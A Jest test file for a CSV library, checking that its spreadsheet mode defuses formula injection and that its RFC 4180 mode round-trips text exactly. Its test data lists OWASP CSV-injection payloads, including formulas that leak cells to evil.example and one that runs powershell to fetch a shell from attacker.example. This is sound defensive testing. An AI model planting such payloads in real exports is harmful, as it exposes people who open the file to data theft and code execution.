import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvDocument, type CsvValue } from './index.js';

/** The OWASP CSV-injection payloads, and the variants that slip past a check of the first character. */
const OWASP_PAYLOADS = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '＝1+2',
  'Ivan;=1+2',
  'Ivan,=1+2',
  'Ivan\t=1+2',
  'Ivan; =1+2',
  'a;b;@SUM(A1)',
  'text\n-2+3',
  '"quoted";=1+2',
  '";=1+2;"',
  '+7 999 123-45-67',
  '"=1+2',
  'Ivan;"=1+2',
];

const TRIGGER = /^[\s"]*[=+\-@＝＋－＠]/;

/**
 * Every fragment a spreadsheet could make of a line, whichever list separator its locale uses
 * and even if it ignores the quotes: none may start a formula.
 */
function formulaFragments(csv: string): string[] {
  const found: string[] = [];
  for (const separator of [',', ';', '\t'])
    for (const line of csv.split(/\r\n|\r|\n/))
      for (const fragment of line.split(separator))
        if (TRIGGER.test(fragment) && !/^"?-?\d+(\.\d+)?"?$/.test(fragment)) found.push(fragment);
  return found;
}

const readBack = (csv: string) => parse(csv, { bom: true }) as string[][];

describe('the spreadsheet dialect', () => {
  it('lets no OWASP payload start a formula under any separator convention, and reads back each payload behind its marks', () => {
    for (const payload of OWASP_PAYLOADS) {
      const csv = csvDocument(
        [
          ['name', 'phone'],
          [payload, '+7 999 123-45-67'],
        ],
        'spreadsheet',
      );
      expect({ payload, fragments: formulaFragments(csv) }).toEqual({ payload, fragments: [] });
      const [, [cell]] = readBack(csv) as [string[], string[]];
      // Only apostrophes were added: removing them gives the payload back.
      expect(cell!.replace(/'/g, '')).toBe(payload.replace(/'/g, ''));
    }
  });

  it('neutralises a formula after a separator inside the cell, not only at its start', () => {
    expect(csvCell('Ivan;=1+2', 'spreadsheet')).toBe(`"Ivan;'=1+2"`);
    expect(csvCell('=1+2', 'spreadsheet')).toBe(`"'=1+2"`);
  });

  it('keeps a phone readable as text and numbers as numbers', () => {
    expect(csvCell('+7 999 123-45-67', 'spreadsheet')).toBe(`"'+7 999 123-45-67"`);
    expect(csvCell('+79991234567', 'spreadsheet')).toBe(`"'+79991234567"`);
    expect(csvCell(-5, 'spreadsheet')).toBe('"-5"');
    expect(csvCell('-90.00', 'spreadsheet')).toBe('"-90.00"');
    expect(csvCell('-90.00+cmd', 'spreadsheet')).toBe(`"'-90.00+cmd"`);
    expect(csvCell('Anna', 'spreadsheet')).toBe('"Anna"');
    expect(csvCell(null, 'spreadsheet')).toBe('""');
  });

  it('holds for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (cells) => {
        const csv = csvDocument([cells], 'spreadsheet');
        expect(formulaFragments(csv)).toEqual([]);
        expect(readBack(csv)[0]!.map((cell) => cell.replace(/'/g, ''))).toEqual(
          cells.map((cell) => cell.replace(/'/g, '')),
        );
      }),
    );
  });
});

describe('the RFC 4180 dialect', () => {
  it('writes every OWASP payload and a phone unchanged, for a machine to read back exactly', () => {
    const records = [['name', 'phone'], ...OWASP_PAYLOADS.map((payload) => [payload, '+7 999 123-45-67'])];
    expect(readBack(csvDocument(records, 'rfc4180'))).toEqual(records);
    expect(csvCell('+7 999 123-45-67', 'rfc4180')).toBe('+7 999 123-45-67');
  });

  it('quotes only what RFC 4180 requires, with CRLF line ends', () => {
    const values: CsvValue[] = ['Anna', 60000, true, null, undefined, 'a,b', 'say "hi"', 'two\nlines'];
    expect(csvDocument([values], 'rfc4180')).toBe('Anna,60000,true,,,"a,b","say ""hi""","two\nlines"\r\n');
  });

  it('round-trips any text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        (records) => {
          expect(readBack(csvDocument(records, 'rfc4180'))).toEqual(records);
        },
      ),
    );
  });
});
